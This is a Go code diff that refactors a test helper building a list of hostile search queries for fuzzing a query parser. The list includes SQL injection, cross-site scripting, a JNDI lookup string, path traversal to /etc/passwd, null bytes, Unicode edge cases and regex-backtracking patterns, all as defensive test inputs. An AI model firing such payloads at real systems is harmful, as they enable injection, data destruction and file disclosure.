@@ -26,15 +26,13 @@ func HostileQueries() []string {
 			out = append(out, f.Name+":"+v)
 		}
 	}
-	for _, s := range []string{
+	out = append(out,
 		"' OR 1=1; DROP TABLE pages; --", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "{{.}}", "${jndi:ldap://example.org/a}", "../../etc/passwd", "%00", "%ff%fe",
 		"\x00", "\xff\xfe", "a\x00b", "\u202ejohn\u202c school", "\u200bjohn\u200b", "👮‍♀️ john 🚗", "e\u0301cole", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢", "日本語", "ﬀ ﬁ", "ß ẞ", "İstanbul", "ＪＯＨＮ",
 		"(a+)+$", "a?????????????????????????????????b", "a*b*c*d*e*f*g*h*i*j*k*l*m*n*o*p", "jo*o*o*o*o*o*o*n", "j?????????n", "john~0", "john~1", "john~2", "john~3", "john~99999999999", `"john school"~100`, `"john school"~101`,
 		"year:2005..1995", "year:..", "year:1995..", "year:..1995", "year:1..999999999", "population:0..0", "state:(", "state:()", "state:(ca OR)", "tactic:\"", "event:", "event:()", "event:(event:(a))", "event:(*)", "event:(-a)", "event:(NOT 1999)",
 		"title:(a b", "title:title:title:a", "-(-(-(-(a))))", "NOT NOT NOT NOT a", "+(+(+a))", "a NEAR/3 b NEAR/3 c NEAR/3 d", "(a OR b) NEAR/3 (c OR d)", "(a AND b) /s c", "a /s b /p c /s d", "the", "the of and", `"the of"`, "+the", "-the", "=the", "the*",
-	} {
-		out = append(out, s)
-	}
+	)
 	for _, n := range []int{1_000, 10_000} {
 		out = append(out, strings.Repeat("(", n), strings.Repeat(")", n), strings.Repeat("(", n)+"a"+strings.Repeat(")", n), strings.Repeat("-", n), strings.Repeat("NOT ", n)+"a",
 			strings.Repeat(`"`, n+1), strings.Repeat("a OR ", n), strings.Repeat("john ", n), strings.Repeat("jo* ", n), strings.Repeat("john~2 ", n), strings.Repeat("event:(", n), strings.Repeat("a NEAR/3 ", n))
